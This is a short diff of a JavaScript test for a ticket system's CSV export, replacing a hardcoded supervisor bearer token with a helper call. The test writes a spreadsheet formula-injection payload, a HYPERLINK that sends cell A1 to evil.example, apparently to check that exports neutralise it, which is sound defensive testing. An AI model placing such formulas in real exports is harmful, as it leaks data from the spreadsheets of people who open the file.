@@ -90,7 +90,7 @@ describe('CSV export', () => {
     await c1.callNext();
     const note = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")';
     await c1.finish({ kind: 'other', note });
-    const auth = { headers: { authorization: 'Bearer test-supervisor-token' } };
+    const auth = { headers: await t.supervisorHeaders() };
     const csv = await (await fetch(`${t.hub.url}/api/exports/tickets.csv`, auth)).text();
     const [header, ...rows] = parseCsv(csv.replace(/^\uFEFF/, ''));
     expect(rows).toHaveLength(1);
